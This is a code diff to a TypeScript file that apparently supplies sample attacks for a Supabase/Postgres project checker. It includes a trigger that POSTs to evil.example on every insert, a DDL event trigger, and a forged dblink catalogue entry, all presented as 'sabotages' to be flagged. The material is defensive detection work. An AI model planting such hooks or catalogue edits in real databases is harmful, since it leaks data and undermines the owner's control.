@@ -6,7 +6,7 @@ const watch = (table: string, time = "before insert") =>
 const watchEvents = (name: string) =>
   `create or replace function private.events() returns event_trigger language plpgsql as 'begin end'; create event trigger ${name} on ddl_command_end execute function private.events()`;
 const onDatabase = (command: string) => `do $$ begin execute format('${command}', current_database()); end $$`;
-/** There are too few extensions in the embedded Postgres. */
+/** The embedded Postgres has no dblink, so its row in the catalogue is made up. */
 const dblinkIn = (schema: string) =>
   `set local allow_system_table_mods = on; insert into pg_extension select 99999, 'dblink', extowner, '${schema}'::regnamespace, false, '1.0' from pg_extension where extname = 'pg_trgm'`;
 const server = (rest: string) =>
@@ -22,7 +22,7 @@ const hook = (table: string, host = "evil.example") =>
   `create trigger hook after insert on ${table} for each row execute function supabase_functions.http_request('https://${host}/in', 'POST', '{}', '{}', '5000')`;
 
 /**
- * Ways to open a project, or to make it quietly stop working, without changing a line of the site. Each is one red line; those of a
+ * Ways to open a project, or to make it quietly stop working, without changing a line of the site. Each gives one red line; those in a
  * list are tried together, as reading the catalogue is what takes time.
  */
 export const sabotages: Record<string, string[]> = {
@@ -205,7 +205,7 @@ export const sabotages: Record<string, string[]> = {
   ],
 };
 
-/** What an owner may want, but should know of: a yellow line for each that is not red. */
+/** What an owner may want, but should know of: each gives a yellow line, not a red one. */
 export const noticed: string[] = [
   hook("public.blog_posts", "deploy.example"),
   "select cron.schedule('clean', '0 4 * * *', 'delete from public.unsaved_copies')",
